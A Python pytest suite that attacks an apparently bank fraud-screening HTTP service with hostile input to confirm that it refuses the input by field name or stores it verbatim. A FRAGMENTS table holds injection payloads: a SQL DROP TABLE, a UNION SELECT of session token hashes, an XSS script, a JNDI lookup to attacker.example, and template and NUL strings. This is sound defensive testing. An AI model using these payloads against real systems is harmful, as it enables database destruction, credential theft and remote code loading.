"""The screening service under hostile input, over real HTTP on SQLite and PostgreSQL.

Each case says what the service must do with it: refuse it with a 422 that names the field (and
write nothing), or accept it and store exactly what was sent (parameterised SQL, no interpretation).
Never a 5xx, never an answer that is not a problem document.

- bodies over 1 MiB: 413 before the body is read (the service's peak memory does not grow);
- JSON nested 10,000 levels deep: 422 on `body`; the documented limit (32 levels) holds exactly;
- SQL, script, JNDI and template fragments and NUL bytes in every text field of every request body,
  in path parameters and in headers;
- unicode tricks in names (zero-width characters, direction overrides, combining marks, full-width
  letters, homoglyphs): refused, or normalised, but never silently a clean name match;
- amounts that are negative, zero, NaN, infinite, 10,000 digits long, over two decimals or JSON
  numbers; 10,000-digit account and ID numbers; out-of-range numbers elsewhere.
"""

import json
import socket
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import requests
from sqlalchemy import Table, insert, select

from screening_service.admin import issue_terminal_key
from screening_service.database import make_engine
from screening_service.schema import (
    account_directory,
    acknowledgements,
    audit_records,
    prescreens,
    reports,
    screenings,
)
from tests.security.service_rows import screened, table_counts
from tests.service.conftest import (
    Api,
    RunningService,
    add_test_teller,
    remittance,
    seeded,
    start_service,
)

PEER_LISTED = "6214830012341234120"  # 周杰: a peer-bank listing, screened as a hold with questions
CLEAN_PAYEE = "6212260200001234562"  # 王小明 in the name directory
LATIN_PAYEE = "6230580000998877665"  # ZHANG WEI, added to the directory by the fixture
MIB = 1024 * 1024
# Measured on a 2-core container: a 10 MB upload is refused in 5-15 ms over loopback. The bound leaves
# room for a machine busy with other test runs; it is far below reading, parsing and validating 10 MB.
TOO_LARGE_SECONDS = 2.0
# Measured: refusing a 10 MB body raises the service's peak memory by 0 kB; reading it (before the
# limit) raised it by 29-58 MB.
PEAK_GROWTH_BYTES = 4 * MIB


FRAGMENTS = {
    "sql": "'; DROP TABLE screenings;--",
    "sql-union": "x' UNION SELECT token_hash FROM sessions--",
    "script": "<script>alert(1)</script>",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "template": "{{7*7}}${7*7}%s%n",
    "nul": "abc\x00def",
}


@dataclass
class Target:
    """One service per database kind, with the keys and sessions the cases use."""

    service: RunningService
    teller: Api
    sign_in_key: str  # a terminal of its own, so that failed sign-ins here throttle nothing else
    fuzz_teller: str  # a teller of its own, so that its lockout affects nothing else

    @property
    def database_url(self) -> str:
        return self.service.process.database_url


@pytest.fixture(scope="module")
def target(module_database_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    seed = seeded(module_database_url)
    engine = make_engine(module_database_url)
    sign_in_key = issue_terminal_key(engine, "BJ0101-C31", "BJ0101").key
    with engine.begin() as connection:
        connection.execute(
            insert(account_directory).values(account_number=LATIN_PAYEE, holder_name="ZHANG WEI", bank="HSBC")
        )
    engine.dispose()
    fuzz_teller = "TFUZZ01"
    add_test_teller(module_database_url, fuzz_teller)
    # The lookup limit is not what these tests are about (test_api covers it).
    process = start_service(
        module_database_url, tmp_path_factory.mktemp("logs"), "--lookup-per-minute", "10000"
    )
    service = RunningService(process, seed)
    try:
        yield Target(service, service.teller(), sign_in_key, fuzz_teller)
    finally:
        process.stop()
    # Whatever the cases sent, the service caught it: no unhandled exception in its log.
    assert "Traceback" not in process.log(), process.log()[-5000:]


def stored(database_url: str, table: Table, key_column: str, key: str, column: str) -> Any:
    engine = make_engine(database_url)
    with engine.connect() as connection:
        values = connection.execute(select(table.c[column]).where(table.c[key_column] == key)).scalars().all()
    engine.dispose()
    assert len(values) == 1, f"{table.name}.{key_column}={key}: {len(values)} rows"
    return values[0]


def problem_of(response: requests.Response, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text[:500]
    assert response.headers["content-type"].startswith("application/problem+json"), response.headers
    problem: dict[str, Any] = response.json()
    assert problem["status"] == status and problem["type"].startswith("urn:counterguard:problem:")
    assert problem["title"] and problem["detail"]
    return problem


def assert_names_field(response: requests.Response, field: str, status: int = 422) -> dict[str, Any]:
    problem = problem_of(response, status)
    named = {error["field"] for error in problem.get("errors", [])}
    assert field in named, (field, problem)
    if status == 422:  # "field: message; ..."
        assert f"{field}: " in problem["detail"], problem
    return problem


def post_raw(api: Api, path: str, data: Any, **headers: str) -> requests.Response:
    return requests.post(
        api.url + path,
        data=data,
        headers={**api.headers(), "Content-Type": "application/json", **headers},
        timeout=30,
    )


def audit_record(**changes: Any) -> dict[str, Any]:
    return {
        "record_id": f"rec-{uuid.uuid4().hex}",
        "sequence": 1,
        "kind": "decision",
        "created_at": "2026-11-27T09:00:00Z",
        "payload": {"screening_id": "scr_1", "action": "cancel"},
        "prev_hash": "0" * 64,
        "hash": "1" * 64,
        **changes,
    }


def prescreen_answers(**changes: Any) -> dict[str, Any]:
    return {
        "purpose": "other",
        "who_asked": "self",
        "relationship_to_payee": "family",
        "urgency": "none",
        "on_phone_now": False,
        "told_to_keep_secret": False,
        "first_time_payee": False,
        "amount_band": "under_10k",
        **changes,
    }


def report_body(**changes: Any) -> dict[str, Any]:
    return {
        "account_number": "6228480099990000111",
        "account_name": "某人",
        "bank": "某银行",
        "typology": "refund",
        "description": "客户称对方自称客服要求退款",
        **changes,
    }


# ---------------------------------------------------------------- fragments in every text field


@dataclass(frozen=True)
class Sent:
    response: requests.Response
    # Where an accepted value is stored: (table, key column, key from the response, column); None when
    # the service keeps it nowhere (the customer's name, the purpose) or keeps it inside JSON.
    where: tuple[Table, str, str, str] | None = None
    read_back: Callable[[dict[str, Any]], Any] | None = None


def _set(body: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    node = body
    *parents, last = path.split(".")
    for part in parents:
        node = node[part]
    node[last] = value
    return body


def _session_field(field: str) -> Callable[[Target, str], Sent]:
    def send(target: Target, value: str) -> Sent:
        body = {"teller_id": target.fuzz_teller, "password": "not-the-password", field: value}
        return Sent(Api(target.service.url, target.sign_in_key).post("/v1/sessions", body))

    return send


def _screening_field(field: str, column: str | None = None) -> Callable[[Target, str], Sent]:
    def send(target: Target, value: str) -> Sent:
        response = target.teller.screen(_set(remittance(), field, value))
        key = response.json().get("screening_id", "") if response.status_code == 201 else ""
        return Sent(response, (screenings, "screening_id", key, column) if column else None)

    return send


def _ack_field(field: str) -> Callable[[Target, str], Sent]:
    def send(target: Target, value: str) -> Sent:
        held = screened(target.teller, payee_account=PEER_LISTED, payee_name="周杰")
        question = held["questions"][0]["id"]
        body: dict[str, Any] = {
            "client_event_id": f"ev-{uuid.uuid4().hex}",
            "action": "cancel",
            "note": "客户决定不汇款",
            "answers": [{"question_id": question, "answer": "是"}],
        }
        if field == "supervisor_approval.approval_token":
            # Proceeding with a hold spends the approval, so the token is really looked up.
            body.update(
                action="proceed",
                answers=[{"question_id": q["id"], "answer": "否"} for q in held["questions"]],
            )
            body["supervisor_approval"] = {"approval_token": value}
        elif field.startswith("answers[0]."):
            body["answers"][0][field.removeprefix("answers[0].")] = value
        else:
            body[field] = value
        response = target.teller.post(f"/v1/screenings/{held['screening_id']}/acknowledgements", body)
        key = response.json().get("ack_id", "") if response.status_code == 201 else ""
        if field == "note":
            return Sent(response, (acknowledgements, "ack_id", key, "note"))
        if field == "answers[0].answer":
            return Sent(
                response,
                (acknowledgements, "ack_id", key, "answers_json"),
                lambda stored_json: json.loads(stored_json)[0]["answer"],
            )
        return Sent(response)

    return send


def _report_field(field: str, column: str | None = None) -> Callable[[Target, str], Sent]:
    def send(target: Target, value: str) -> Sent:
        response = target.teller.post("/v1/reports", report_body(**{field: value}))
        key = response.json().get("report_id", "") if response.status_code == 201 else ""
        return Sent(response, (reports, "report_id", key, column) if column else None)

    return send


def _prescreen_field(field: str) -> Callable[[Target, str], Sent]:
    def send(target: Target, value: str) -> Sent:
        kiosk = target.service.kiosk()
        response = kiosk.post("/v1/prescreens", prescreen_answers(**{field: value}))
        code = response.json().get("code", "").replace("-", "") if response.status_code == 201 else ""
        return Sent(
            response,
            (prescreens, "code", code, "answers_json"),
            lambda stored_json: json.loads(stored_json)[field],
        )

    return send


def _payload_value(stored_json: str) -> Any:
    return json.loads(stored_json)["note"]


def _payload_key(stored_json: str) -> Any:
    return next(iter(json.loads(stored_json)))


def _audit_field(field: str) -> Callable[[Target, str], Sent]:
    def send(target: Target, value: str) -> Sent:
        read_back: Callable[[Any], Any] | None = None
        column = field
        if field == "payload.value":
            record = audit_record(payload={"note": value})
            read_back, column = _payload_value, "payload_json"
        elif field == "payload.key":
            record = audit_record(payload={value: "x"})
            read_back, column = _payload_key, "payload_json"
        else:
            record = audit_record(**{field: value})
        response = target.service.counter().post("/v1/audit-records", record)
        return Sent(response, (audit_records, "record_id", record["record_id"], column), read_back)

    return send


# Every text field of every request body: (endpoint, the field as problem documents name it, sender).
TEXT_FIELDS = [
    pytest.param("sessions", "teller_id", _session_field("teller_id"), id="sessions.teller_id"),
    pytest.param("sessions", "password", _session_field("password"), id="sessions.password"),
    pytest.param(
        "screenings", "payer_account", _screening_field("payer_account"), id="screenings.payer_account"
    ),
    pytest.param(
        "screenings", "payee_account", _screening_field("payee_account"), id="screenings.payee_account"
    ),
    pytest.param(
        "screenings", "payee_name", _screening_field("payee_name", "payee_name"), id="screenings.payee_name"
    ),
    pytest.param(
        "screenings", "payee_bank", _screening_field("payee_bank", "payee_bank"), id="screenings.payee_bank"
    ),
    pytest.param("screenings", "amount", _screening_field("amount"), id="screenings.amount"),
    pytest.param("screenings", "currency", _screening_field("currency"), id="screenings.currency"),
    pytest.param("screenings", "purpose", _screening_field("purpose"), id="screenings.purpose"),
    pytest.param("screenings", "branch_id", _screening_field("branch_id"), id="screenings.branch_id"),
    pytest.param(
        "screenings",
        "customer.id_number",
        _screening_field("customer.id_number"),
        id="screenings.customer.id_number",
    ),
    pytest.param(
        "screenings", "customer.name", _screening_field("customer.name"), id="screenings.customer.name"
    ),
    pytest.param(
        "screenings", "prescreen_code", _screening_field("prescreen_code"), id="screenings.prescreen_code"
    ),
    pytest.param(
        "acknowledgements",
        "client_event_id",
        _ack_field("client_event_id"),
        id="acknowledgements.client_event_id",
    ),
    pytest.param("acknowledgements", "note", _ack_field("note"), id="acknowledgements.note"),
    pytest.param("acknowledgements", "delay", _ack_field("delay"), id="acknowledgements.delay"),
    pytest.param(
        "acknowledgements",
        "answers[0].question_id",
        _ack_field("answers[0].question_id"),
        id="acknowledgements.answers[0].question_id",
    ),
    pytest.param(
        "acknowledgements",
        "answers[0].answer",
        _ack_field("answers[0].answer"),
        id="acknowledgements.answers[0].answer",
    ),
    pytest.param(
        "acknowledgements",
        "supervisor_approval.approval_token",
        _ack_field("supervisor_approval.approval_token"),
        id="acknowledgements.supervisor_approval.approval_token",
    ),
    pytest.param("reports", "account_number", _report_field("account_number"), id="reports.account_number"),
    pytest.param(
        "reports", "account_name", _report_field("account_name", "account_name"), id="reports.account_name"
    ),
    pytest.param("reports", "bank", _report_field("bank", "bank"), id="reports.bank"),
    pytest.param("reports", "typology", _report_field("typology"), id="reports.typology"),
    pytest.param(
        "reports", "description", _report_field("description", "description"), id="reports.description"
    ),
    pytest.param(
        "prescreens", "purpose_text", _prescreen_field("purpose_text"), id="prescreens.purpose_text"
    ),
    pytest.param("prescreens", "remarks", _prescreen_field("remarks"), id="prescreens.remarks"),
    pytest.param("audit-records", "record_id", _audit_field("record_id"), id="audit-records.record_id"),
    pytest.param("audit-records", "kind", _audit_field("kind"), id="audit-records.kind"),
    pytest.param("audit-records", "created_at", _audit_field("created_at"), id="audit-records.created_at"),
    pytest.param("audit-records", "prev_hash", _audit_field("prev_hash"), id="audit-records.prev_hash"),
    pytest.param("audit-records", "hash", _audit_field("hash"), id="audit-records.hash"),
    pytest.param("audit-records", "payload", _audit_field("payload.value"), id="audit-records.payload-value"),
    pytest.param("audit-records", "payload", _audit_field("payload.key"), id="audit-records.payload-key"),
]


@pytest.mark.no_loss
@pytest.mark.parametrize("fragment", list(FRAGMENTS.values()), ids=list(FRAGMENTS))
@pytest.mark.parametrize(("endpoint", "field", "send"), TEXT_FIELDS)
def test_fragments_in_every_text_field_are_refused_by_name_or_stored_verbatim(
    target: Target, endpoint: str, field: str, send: Callable[[Target, str], Sent], fragment: str
) -> None:
    before = table_counts(target.database_url)
    sent = send(target, fragment)
    response = sent.response
    assert response.status_code < 500, response.text[:500]
    if response.status_code in (200, 201):
        # Accepted: stored once, exactly as sent. A NUL only in the audit payload, which is stored as JSON
        # (NUL escaped): refusing a record the counter has already hash-chained would lose it.
        assert "\x00" not in fragment or field == "payload", f"a NUL byte was accepted in {field}"
        if sent.where is not None:
            table, key_column, key, column = sent.where
            value = stored(target.database_url, table, key_column, key, column)
            assert (sent.read_back(value) if sent.read_back else value) == fragment
        return
    if endpoint == "sessions":
        # A wrong teller ID or password: 401 (423 once the fuzz teller is locked), or a refused field.
        assert response.status_code in (401, 422, 423), response.text
        if response.status_code == 422 or "\x00" in fragment:
            assert_names_field(response, field)
    elif field == "supervisor_approval.approval_token" and response.status_code == 409:
        # Not a NUL and long enough to be a token: looked up, and it is no supervisor's approval.
        assert_names_field(response, field, 409)
    else:
        assert_names_field(response, field)
    expected = dict(before)
    if endpoint == "acknowledgements":  # the screening the test made to acknowledge, and its key
        expected["screenings"] += 1
        expected["idempotency_records"] += 1
    assert table_counts(target.database_url) == expected


# ---------------------------------------------------------------- path parameters and headers


@pytest.mark.parametrize("fragment", list(FRAGMENTS.values()), ids=list(FRAGMENTS))
def test_fragments_in_path_parameters_are_refused_without_echo(target: Target, fragment: str) -> None:
    quoted = quote(fragment, safe="")
    counter = target.service.counter()
    before = table_counts(target.database_url)

    risk = counter.get(f"/v1/accounts/{quoted}/risk")
    if "/" in fragment:  # %2F is decoded before routing: no route has that many segments
        problem_of(risk, 404)
    else:
        assert_names_field(risk, "account_number")
    ack = target.teller.post(
        f"/v1/screenings/{quoted}/acknowledgements",
        {"client_event_id": f"ev-{uuid.uuid4().hex}", "action": "cancel"},
    )
    if "/" in fragment:
        problem_of(ack, 404)
    else:
        assert_names_field(ack, "screening_id")
    prescreen = target.teller.get(f"/v1/prescreens/{quoted}")
    problem_of(prescreen, 404)  # unknown, like any code that is not one

    for response in (risk, ack, prescreen):
        assert fragment not in response.text and quoted not in response.text  # nothing reflected
    assert table_counts(target.database_url) == before


@pytest.mark.parametrize(
    "fragment",
    [f for f in FRAGMENTS.values() if "\x00" not in f],
    ids=[k for k, f in FRAGMENTS.items() if "\x00" not in f],
)
def test_fragments_in_headers_are_refused(target: Target, fragment: str) -> None:
    before = table_counts(target.database_url)
    idempotency = target.teller.screen(remittance(), key=fragment)
    assert_names_field(idempotency, "header.Idempotency-Key", 400)
    for key in (fragment, f"cgk_{fragment}_x", f"cgk_0_{fragment}"):
        refused = requests.get(f"{target.service.url}/v1/health", headers={"X-Terminal-Key": key}, timeout=10)
        assert problem_of(refused, 401)["type"].endswith(":unauthorized")
    bearer = Api(target.service.url, target.service.seed.counter_key, fragment).screen(remittance())
    problem_of(bearer, 401)
    # Header bytes that are not Latin-1 text (UTF-8 here) reach the service as odd characters: still a 401.
    utf8 = requests.get(
        f"{target.service.url}/v1/health",
        headers={"X-Terminal-Key": f"cgk_中文_{fragment}".encode()},
        timeout=10,
    )
    problem_of(utf8, 401)
    assert table_counts(target.database_url) == before


@pytest.mark.parametrize("header", ["X-Terminal-Key", "Idempotency-Key", "Authorization"])
def test_a_nul_byte_in_a_header_is_refused_by_the_http_parser(target: Target, header: str) -> None:
    # requests and http.client refuse to send a NUL in a header, so the request is written by hand.
    host, port = target.service.url.removeprefix("http://").split(":")
    request = (
        f"GET /v1/health HTTP/1.1\r\nHost: {host}\r\n{header}: cgk_abc\x00def_x\r\nConnection: close\r\n\r\n"
    ).encode("latin-1")
    with socket.create_connection((host, int(port)), timeout=10) as connection:
        connection.sendall(request)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    status = int(answer.split(b" ", 2)[1])
    assert status in (400, 401), answer[:300]
    # The service is unharmed.
    assert target.service.counter().get("/v1/health").status_code == 200


# ---------------------------------------------------------------- body size and depth


POST_PATHS = [
    "/v1/sessions",
    "/v1/screenings",
    "/v1/screenings/scr_000000000000000000000000/acknowledgements",
    "/v1/reports",
    "/v1/prescreens",
    "/v1/audit-records",
]


def _peak_memory_reset(pid: int) -> Callable[[], int]:
    """Resets the process's peak resident memory; the returned function reads its growth since, in bytes."""
    if not sys.platform.startswith("linux"):
        pytest.skip("peak memory is read from /proc on Linux")
    status = Path(f"/proc/{pid}/status")

    def read(field: str) -> int:
        line = next(line for line in status.read_text().splitlines() if line.startswith(field))
        return int(line.split()[1]) * 1024

    Path(f"/proc/{pid}/clear_refs").write_text("5")
    baseline = read("VmRSS:")
    return lambda: read("VmHWM:") - baseline


def _chunks(total: int, size: int = 64 * 1024) -> Iterator[bytes]:
    for start in range(0, total, size):
        yield b"a" * min(size, total - start)


@pytest.mark.no_loss
@pytest.mark.parametrize("path", POST_PATHS)
@pytest.mark.parametrize("framing", ["content-length", "chunked"])
def test_a_ten_megabyte_body_is_refused_unread(target: Target, path: str, framing: str) -> None:
    before = table_counts(target.database_url)
    assert target.service.counter().get("/v1/health").status_code == 200  # warm: the same code paths
    growth = _peak_memory_reset(target.service.process.process.pid)
    size = 10 * 1000 * 1000
    body: Any = b'{"note": "' + b"a" * size + b'"}' if framing == "content-length" else _chunks(size)
    started = time.monotonic()
    response = post_raw(target.teller, path, body, **{"Idempotency-Key": uuid.uuid4().hex})
    elapsed = time.monotonic() - started
    problem = problem_of(response, 413)
    assert problem["type"] == "urn:counterguard:problem:payload-too-large"
    assert elapsed < TOO_LARGE_SECONDS, elapsed
    assert growth() < PEAK_GROWTH_BYTES, growth()
    assert table_counts(target.database_url) == before
    # The connection and the service are fine afterwards.
    assert target.service.counter().get("/v1/health").status_code == 200


def test_the_size_limit_is_one_mebibyte(target: Target) -> None:
    body = {"note": "a" * (MIB - 40)}
    encoded = json.dumps(body).encode()
    assert len(encoded) <= MIB
    under = post_raw(target.teller, "/v1/screenings", encoded, **{"Idempotency-Key": uuid.uuid4().hex})
    assert under.status_code == 422  # read and validated: note is no field of a screening
    over = post_raw(target.teller, "/v1/screenings", encoded + b" " * (MIB + 1 - len(encoded)))
    problem_of(over, 413)


def _nested(levels: int, kind: str) -> str:
    return "[" * levels + "]" * levels if kind == "array" else '{"a":' * levels + "1" + "}" * levels


@pytest.mark.parametrize("path", POST_PATHS)
@pytest.mark.parametrize("kind", ["array", "object"])
def test_ten_thousand_levels_of_json_are_refused(target: Target, path: str, kind: str) -> None:
    before = table_counts(target.database_url)
    response = post_raw(target.teller, path, _nested(10_000, kind), **{"Idempotency-Key": uuid.uuid4().hex})
    problem = assert_names_field(response, "body")
    assert "nested more than 32 levels" in problem["detail"]
    assert table_counts(target.database_url) == before


def test_the_depth_limit_is_thirty_two_levels(target: Target) -> None:
    counter = target.service.counter()
    # The record itself is level 1: a payload of 31 levels makes 32.
    deepest = json.loads(_nested(31, "object"))
    accepted = counter.post("/v1/audit-records", audit_record(payload=deepest))
    assert accepted.status_code == 201, accepted.text
    too_deep = counter.post("/v1/audit-records", audit_record(payload=json.loads(_nested(32, "object"))))
    assert "nested more than 32 levels" in assert_names_field(too_deep, "body")["detail"]


# ---------------------------------------------------------------- names: unicode tricks


@pytest.mark.no_loss
@pytest.mark.parametrize(
    "name",
    [
        "王\u200b小明",  # zero-width space
        "王\u200d小明",  # zero-width joiner
        "王\u200c小明",  # zero-width non-joiner
        "王小明\u2060",  # word joiner
        "\ufeff王小明",  # byte order mark
        "王\u00ad小明",  # soft hyphen
        "\u202e明小王",  # right-to-left override: displays as 王小明
        "\u202d王小明\u202c",  # left-to-right override
        "王小明\u200e",  # left-to-right mark
        "\u2067王小明\u2069",  # right-to-left isolate
        "王\n小明",  # line break
        "王\x00小明",  # NUL
    ],
    ids=[
        "zwsp",
        "zwj",
        "zwnj",
        "word-joiner",
        "bom",
        "soft-hyphen",
        "rlo",
        "lro",
        "lrm",
        "rli",
        "newline",
        "nul",
    ],
)
@pytest.mark.parametrize("field", ["payee_name", "customer.name"])
def test_invisible_and_direction_characters_in_names_are_refused(
    target: Target, name: str, field: str
) -> None:
    before = table_counts(target.database_url)
    response = target.teller.screen(_set(remittance(payee_account=CLEAN_PAYEE), field, name))
    problem = assert_names_field(response, field)
    assert "U+" in problem["detail"]  # says which character, so the teller can see why
    assert table_counts(target.database_url) == before


@pytest.mark.parametrize(
    ("payee", "name", "outcome"),
    [
        (CLEAN_PAYEE, "王小明", "match"),
        (CLEAN_PAYEE, "王 小 明", "match"),  # spaces between characters are ignored
        (CLEAN_PAYEE, "王小明\u3000", "match"),  # an ideographic space, as a Chinese keyboard types it
        (CLEAN_PAYEE, "王小眀", "close_match"),  # 眀 (U+7740) looks like 明
        (CLEAN_PAYEE, "王小明\u0301", "close_match"),  # a combining accent on a Chinese character
        (CLEAN_PAYEE, "王\u0336小明", "close_match"),  # a combining strike-through
        (LATIN_PAYEE, "ZHANG WEI", "match"),
        (LATIN_PAYEE, "zhang wei", "match"),
        (LATIN_PAYEE, "ＺＨＡＮＧ ＷＥＩ", "match"),  # full-width letters: NFKC makes them ASCII
        (LATIN_PAYEE, "WEI ZHANG", "close_match"),  # the same words in another order
        (LATIN_PAYEE, "ZH\u0410NG WEI", "close_match"),  # Cyrillic А (U+0410) for Latin A
        (LATIN_PAYEE, "ΖΗΑΝG WΕΙ", "no_match"),  # Greek capitals that look like ZHAN.. and E, I
    ],
    ids=[
        "same",
        "spaced",
        "ideographic-space",
        "cjk-lookalike",
        "combining-acute",
        "combining-strike",
        "latin",
        "lower-case",
        "full-width",
        "reordered",
        "cyrillic-a",
        "greek-lookalikes",
    ],
)
def test_look_alike_names_are_never_a_silent_match(
    target: Target, payee: str, name: str, outcome: str
) -> None:
    result = screened(target.teller, payee_account=payee, payee_name=name)
    check = result["payee_name_check"]
    assert check["outcome"] == outcome, (name, check)
    if outcome == "close_match":
        # The teller is shown the name on record ("did you mean ...?"), so a look-alike cannot pass unseen.
        assert check["name_on_record"] in ("王小明", "ZHANG WEI")
    if outcome == "no_match":
        assert check["name_on_record"] is None
        assert "PAYEE_NAME_MISMATCH" in {reason["code"] for reason in result["reasons"]}
        assert result["decision"] != "allow"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("payee_account", "６２１２２６０２００００１２３４５６２"),  # full-width digits
        ("payee_account", "6212\u200b260200001234562"),
        ("payee_account", "ſE89370400440532013000"),  # long s, which upper() turns into S
        ("payee_account", "DE89\u0399370400440532013000"),  # Greek Iota, which looks like I
        ("customer.id_number", "Ｅ12345678"),
        ("customer.id_number", "E1234\u200b5678"),
    ],
    ids=["fullwidth-digits", "zwsp-account", "long-s-iban", "greek-iota-iban", "fullwidth-id", "zwsp-id"],
)
def test_look_alike_account_and_id_numbers_are_refused(target: Target, field: str, value: str) -> None:
    before = table_counts(target.database_url)
    body = remittance()
    if field == "customer.id_number":
        body["customer"].update(id_type="passport", id_number=value)
    else:
        body[field] = value
    assert_names_field(target.teller.screen(body), field)
    assert table_counts(target.database_url) == before


# ---------------------------------------------------------------- numbers


BAD_AMOUNTS: list[tuple[str, Any]] = [
    ("negative", "-0.01"),
    ("negative-whole", "-100"),
    ("zero", "0"),
    ("zero-decimals", "0.00"),
    ("three-decimals", "1.005"),
    ("overflow-exponent", "1e309"),
    ("exponent", "1e3"),
    ("nan", "NaN"),
    ("infinity", "Infinity"),
    ("minus-infinity", "-Infinity"),
    ("ten-thousand-digits", "9" * 10_000),
    ("fourteen-digits", "1" + "0" * 13),
    ("sixteen-digits-and-cents", "9999999999999999.99"),
    ("thousands-separator", "1,000.00"),
    ("plus-sign", "+100"),
    ("spaces", " 100 "),
    ("trailing-dot", "100."),
    ("leading-dot", ".5"),
    ("hex", "0x10"),
    ("full-width", "１００"),
    ("arabic-indic", "١٠٠"),
    ("empty", ""),
    ("json-number", 3000),
    ("json-float", 3000.0),
    ("json-bool", True),
    ("json-null", None),
    ("json-list", ["3000"]),
]


@pytest.mark.no_loss
@pytest.mark.parametrize("amount", [value for _, value in BAD_AMOUNTS], ids=[name for name, _ in BAD_AMOUNTS])
def test_bad_amounts_are_refused_by_name(target: Target, amount: Any) -> None:
    before = table_counts(target.database_url)
    assert_names_field(target.teller.screen(remittance(amount=amount)), "amount")
    assert table_counts(target.database_url) == before


@pytest.mark.parametrize(
    "literal",
    ["9" * 10_000, "-" + "9" * 10_000, "1e309", "-1e309", "1" + "0" * 400 + ".5"],
    ids=["10k-digits", "minus-10k-digits", "1e309", "minus-1e309", "400-digit-float"],
)
def test_huge_json_numbers_are_refused_by_field(target: Target, literal: str) -> None:
    before = table_counts(target.database_url)
    body = json.dumps(remittance(amount="AMOUNT")).replace('"AMOUNT"', literal)
    assert_names_field(
        post_raw(target.teller, "/v1/screenings", body, **{"Idempotency-Key": uuid.uuid4().hex}), "amount"
    )
    record = json.dumps(audit_record(sequence=0)).replace('"sequence": 0', f'"sequence": {literal}')
    assert_names_field(post_raw(target.service.counter(), "/v1/audit-records", record), "sequence")
    distance = json.dumps(remittance()).replace('"distance": 0.35', f'"distance": {literal}')
    assert_names_field(
        post_raw(target.teller, "/v1/screenings", distance, **{"Idempotency-Key": uuid.uuid4().hex}),
        "face_verification.distance",
    )
    payload = json.dumps(audit_record()).replace('"action": "cancel"', f'"action": {literal}')
    assert_names_field(post_raw(target.service.counter(), "/v1/audit-records", payload), "payload")
    assert table_counts(target.database_url) == before


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_nan_and_infinity_are_not_json(target: Target, constant: str) -> None:
    before = table_counts(target.database_url)
    body = json.dumps(remittance()).replace('"distance": 0.35', f'"distance": {constant}')
    problem = assert_names_field(
        post_raw(target.teller, "/v1/screenings", body, **{"Idempotency-Key": uuid.uuid4().hex}), "body"
    )
    assert "NaN or Infinity" in problem["detail"]
    payload = json.dumps(audit_record()).replace('"action": "cancel"', f'"action": {constant}')
    assert_names_field(post_raw(target.service.counter(), "/v1/audit-records", payload), "body")
    assert table_counts(target.database_url) == before


@pytest.mark.no_loss
def test_the_largest_amount_is_stored_exactly(target: Target) -> None:
    largest = "9999999999999.99"  # 13 digits and cents: what SQLite's NUMERIC (a double) keeps exactly
    result = screened(target.teller, amount=largest)
    amount = stored(target.database_url, screenings, "screening_id", result["screening_id"], "amount")
    assert str(amount) == largest


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("payer_account", "6" * 10_000),
        ("payee_account", "6" * 10_000),
        ("customer.id_number", "1" * 10_000),
        ("payee_name", "王" * 10_000),
        ("purpose", "转账" * 5_000),
        ("branch_id", "B" * 10_000),
        ("prescreen_code", "A" * 10_000),
        ("face_verification.distance", -0.01),
        ("face_verification.distance", 2.01),
        ("customer.birth_date", "9999-12-31"),
        ("customer.birth_date", "0000-01-01"),
        ("payee_account", 6212260200001234562),
    ],
    ids=[
        "payer-10k-digits",
        "payee-10k-digits",
        "id-10k-digits",
        "name-10k",
        "purpose-10k",
        "branch-10k",
        "prescreen-10k",
        "distance-negative",
        "distance-over-2",
        "birth-in-future",
        "birth-year-0",
        "account-as-json-number",
    ],
)
def test_oversized_and_out_of_range_fields_are_refused_by_name(
    target: Target, field: str, value: Any
) -> None:
    before = table_counts(target.database_url)
    assert_names_field(target.teller.screen(_set(remittance(), field, value)), field)
    assert table_counts(target.database_url) == before


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("sequence", 0),
        ("sequence", -1),
        ("sequence", 2**31),
        ("sequence", 2**63),
        ("sequence", 2**70),
        ("record_id", "r" * 10_000),
        ("kind", "k" * 10_000),
    ],
    ids=["seq-0", "seq-negative", "seq-2^31", "seq-2^63", "seq-2^70", "record-id-10k", "kind-10k"],
)
def test_audit_record_numbers_and_sizes_are_refused_by_name(target: Target, field: str, value: Any) -> None:
    before = table_counts(target.database_url)
    assert_names_field(
        target.service.counter().post("/v1/audit-records", audit_record(**{field: value})), field
    )
    assert table_counts(target.database_url) == before


@pytest.mark.parametrize(
    ("field", "value"),
    [("account_number", "6" * 10_000), ("description", "描" * 10_000), ("account_name", "名" * 10_000)],
    ids=["account-10k", "description-10k", "name-10k"],
)
def test_report_sizes_are_refused_by_name(target: Target, field: str, value: str) -> None:
    before = table_counts(target.database_url)
    assert_names_field(target.teller.post("/v1/reports", report_body(**{field: value})), field)
    assert table_counts(target.database_url) == before


POLICE_LISTED = "6222000011112222337"  # 刘洋, on the demo police list: always a block


@pytest.mark.parametrize("ending", ["\n", "\r\n", " \n"], ids=["lf", "crlf", "space-lf"])
@pytest.mark.parametrize("field", ["payee_account", "payer_account", "amount", "customer.id_number"])
def test_a_trailing_line_break_never_slips_a_value_past_its_check(
    target: Target, field: str, ending: str
) -> None:
    """A trailing line break is refused by name: it once passed `^...$` and hid a listed payee"""
    body = remittance(payee_account=POLICE_LISTED, payee_name="刘洋")
    if field == "customer.id_number":
        body["customer"]["id_number"] += ending
    else:
        body[field] += ending
    before = table_counts(target.database_url)
    response = target.teller.screen(body)
    assert_names_field(response, field)
    assert table_counts(target.database_url) == before
